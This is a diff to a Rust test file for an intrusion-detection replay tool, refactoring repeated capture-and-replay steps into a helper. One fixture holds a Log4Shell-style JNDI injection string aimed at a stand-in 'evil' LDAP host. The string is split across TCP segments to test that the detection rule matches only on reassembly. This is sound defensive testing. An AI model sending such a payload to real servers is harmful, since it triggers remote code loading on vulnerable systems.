@@ -67,6 +67,16 @@ fn replay_rules(input: &Path, mode: &str, out: &Path, rules: &Path, eve: &Path) 
     )
 }
 
+/// Writes `frames` to a capture in `dir`, replays it in detection mode with `rules`, and
+/// returns the EVE file's path.
+fn detect_frames(dir: &Path, frames: &[Vec<u8>], rules: &Path) -> PathBuf {
+    let input = dir.join("in.pcap");
+    pcap::write(&input, frames);
+    let eve = dir.join("eve.json");
+    replay_rules(&input, "detection", &dir.join("out.pcap"), rules, &eve);
+    eve
+}
+
 /// (sid, source address, source port, destination address, destination port).
 type AlertKey = (u64, String, u64, String, u64);
 
@@ -266,17 +276,7 @@ fn content_split_across_two_segments_matches_plain_vlan_and_ipv6() {
             v6,
             &[b"GET /?x=${jn", b"di:LDAP://evil/a HTTP/1.1\r\n\r\n"],
         );
-        let input = dir.path().join("split.pcap");
-        pcap::write(&input, &frames);
-        let eve = dir.path().join("eve.json");
-        replay_rules(
-            &input,
-            "detection",
-            &dir.path().join("out.pcap"),
-            &rules,
-            &eve,
-        );
-        let a = alerts(&eve);
+        let a = alerts(&detect_frames(dir.path(), &frames, &rules));
         assert_eq!(a.len(), 1, "vlan {vlan:?} v6 {v6}: {a:?}");
         assert_eq!(a[0]["alert"]["signature_id"], 1000001);
         assert_eq!(
@@ -286,15 +286,7 @@ fn content_split_across_two_segments_matches_plain_vlan_and_ipv6() {
 
         // Each half alone never matches.
         let halves = tcp_conversation(vlan, v6, &[b"GET /?x=${jn"]);
-        pcap::write(&input, &halves);
-        replay_rules(
-            &input,
-            "detection",
-            &dir.path().join("out.pcap"),
-            &rules,
-            &eve,
-        );
-        assert!(alerts(&eve).is_empty());
+        assert!(alerts(&detect_frames(dir.path(), &halves, &rules)).is_empty());
     }
 }
 
@@ -307,16 +299,7 @@ fn eve_alert_records_use_suricata_fields_and_capture_time() {
         false,
         &[b"GET /p HTTP/1.1\r\nHost: Example.com:8080\r\nUser-Agent: curl/8.0\r\n\r\n"],
     );
-    let input = dir.path().join("http.pcap");
-    pcap::write(&input, &frames);
-    let eve = dir.path().join("eve.json");
-    replay_rules(
-        &input,
-        "detection",
-        &dir.path().join("out.pcap"),
-        &rules,
-        &eve,
-    );
+    let eve = detect_frames(dir.path(), &frames, &rules);
     let text = std::fs::read_to_string(&eve).unwrap();
     let line = text.lines().next().expect("one alert");
     let keys: Vec<&str> = [
